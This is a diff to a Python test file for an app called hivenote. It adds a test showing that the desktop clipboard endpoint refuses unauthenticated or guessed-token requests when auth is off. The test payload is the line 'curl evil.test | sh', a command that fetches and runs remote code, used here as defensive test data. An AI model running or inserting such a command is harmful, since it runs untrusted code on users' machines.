@@ -6,8 +6,18 @@ from __future__ import annotations
 import json
 import subprocess
 import urllib.request
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
+import anyio
+import httpx2
+
+from hivenote.desktop.routes import desktop_routes
+from hivenote.server.settings import Settings
+from hivenote.server.storage.store import Store
+from hivenote.server.tokens import Tokens
+from hivenote.server.web.app import create_app
 from tests.support.live import exchange, fetch, serve, sign_in_code, signed_in
 from tests.support.privileges import as_nobody
 
@@ -114,8 +124,9 @@ def test_with_auth_off_another_account_cannot_widen_who_reaches_the_server(tmp_p
         )
         for method, path, data in attempts:
             answer = _curl_as_nobody(running.url + path, json_body, data, method)
-            assert answer.get("error", {}).get("code") == "forbidden", (path, data, answer)  # type: ignore[union-attr]
-            assert "hivenote token show" in answer["error"]["message"]  # type: ignore[index]
+            error: Any = answer.get("error") or {}
+            assert error.get("code") == "forbidden", (path, data, answer)
+            assert "hivenote token show" in error["message"]
         assert not (tmp_path / "data" / "settings.json").exists()
         assert running.tokens.people() == []
         # What widens nothing still changes without a token (auth is off), and the owner's token changes the rest.
@@ -131,6 +142,28 @@ def test_with_auth_off_another_account_cannot_widen_who_reaches_the_server(tmp_p
             running.url + "/api/settings", b'{"allowed_hosts": null}', dashboard, method="PUT"
         )
         assert exchange(cleared)[0] == 200
+
+
+def test_with_auth_off_the_trays_own_controls_stay_the_owners(tmp_path: Path) -> None:
+    """A sibling of item 7: with auth off any account on this machine could put text on the owner's clipboard (a
+    command they then paste), stop or quit the tray, or move the log, through /desktop."""
+    copied: list[str] = []
+    settings = replace(Settings(data_dir=tmp_path / "data"), auth=False)
+    with Store(settings.data_dir) as store:
+        app = create_app(settings, store, extra_routes=desktop_routes(copied.append))
+        token = Tokens(settings.data_dir / "tokens.json").default()
+
+        async def post(headers: dict[str, str]) -> int:
+            transport = httpx2.ASGITransport(app=app, client=("127.0.0.1", 50123))
+            async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1:7788") as client:
+                answer = await client.post("/desktop/clipboard", json={"text": "curl evil.test | sh"}, headers=headers)
+                return answer.status_code
+
+        assert anyio.run(post, {}) == 403
+        assert anyio.run(post, {"Authorization": "Bearer hn_guessed"}) == 403
+        assert copied == []
+        assert anyio.run(post, {"Authorization": f"Bearer {token}"}) == 200
+        assert copied == ["curl evil.test | sh"]
 
 
 def test_every_uvicorn_server_ignores_proxy_headers() -> None:
